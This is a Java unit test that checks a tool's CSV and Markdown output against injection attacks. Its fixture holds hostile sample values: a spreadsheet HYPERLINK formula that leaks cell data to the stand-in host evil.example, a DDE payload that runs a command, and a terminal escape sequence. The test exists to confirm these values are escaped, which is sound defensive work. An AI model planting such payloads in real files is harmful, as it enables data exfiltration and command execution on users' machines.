package io.lodestone.output;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.lodestone.TestFiles;
import java.io.StringReader;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Review F7, F30, F31: CSV cannot carry formulas or terminal controls; Markdown cannot autolink or notify. */
class InjectionEscapingTest {
    @TempDir
    Path tmp;

    private Path injected() {
        Path rules = TestFiles.miniRules(tmp.resolve("rules"));
        TestFiles.write(tmp.resolve("facts/inj.json"), """
                {"lodestone": 1, "id": "=HYPERLINK(\\"http://evil.example/?d=\\"&A2,\\"Open\\") @evil www.evil.example \\u001b]0;PWNED\\u0007",
                 "facts": [{"type": "Item", "id": "+cmd|' /C calc'!A0", "amount": 500}]}
                """);
        return rules;
    }

    @Test
    void csvCellsAreNeitherFormulasNorTerminalControls() throws Exception {
        Path rules = injected();
        TestFiles.Run run = TestFiles.cli(
                "evaluate",
                "--rules",
                rules.toString(),
                "--format",
                "csv",
                tmp.resolve("facts").toString());
        assertEquals(0, run.code(), run.err());
        assertFalse(run.out().chars().anyMatch(c -> c == 0x1b || c == 0x07 || c == 0), "no raw ESC, BEL or NUL");
        List<CSVRecord> rows = CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(run.out()))
                .getRecords();
        assertTrue(!rows.isEmpty(), run.out());
        for (CSVRecord row : rows) {
            for (String cell : row) {
                assertFalse(
                        !cell.isEmpty()
                                && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0
                                && !cell.matches("[+-]?\\d+(\\.\\d+)?"),
                        "a spreadsheet would run: " + cell);
            }
            assertTrue(row.get("factSet").startsWith("'=HYPERLINK"), row.get("factSet"));
            assertTrue(row.get("facts").startsWith("'+cmd"), row.get("facts"));
        }
        assertEquals("-1.5", CsvFormatter.safe("-1.5"), "a negative number stays a number");
        assertEquals("'-1+2", CsvFormatter.safe("-1+2"));
    }

    @Test
    void markdownPutsBareUrlsAndMentionsInCodeSpans() {
        Path rules = injected();
        TestFiles.Run run = TestFiles.cli(
                "evaluate",
                "--rules",
                rules.toString(),
                "--format",
                "markdown",
                tmp.resolve("facts").toString());
        assertEquals(0, run.code(), run.err());
        String md = run.out();
        for (String token : List.of("http://evil.example", "@evil", "www.evil.example")) {
            Matcher m = Pattern.compile(Pattern.quote(token)).matcher(md);
            assertTrue(m.find(), token + " is shown: " + md);
            do {
                int open = md.lastIndexOf('`', m.start());
                int lineStart = md.lastIndexOf('\n', m.start());
                int close = md.indexOf('`', m.end());
                int lineEnd = md.indexOf('\n', m.end());
                assertTrue(
                        open > lineStart
                                && close >= 0
                                && (lineEnd < 0 || close < lineEnd)
                                && md.substring(lineStart + 1, open)
                                                        .chars()
                                                        .filter(c -> c == '`')
                                                        .count()
                                                % 2
                                        == 0,
                        token + " must be inside a code span: "
                                + md.substring(lineStart + 1, lineEnd < 0 ? md.length() : lineEnd));
            } while (m.find());
        }
        assertEquals("amount over 2 @ 3", MarkdownFormatter.cell("amount over 2 @ 3"), "plain text is untouched");
    }
}
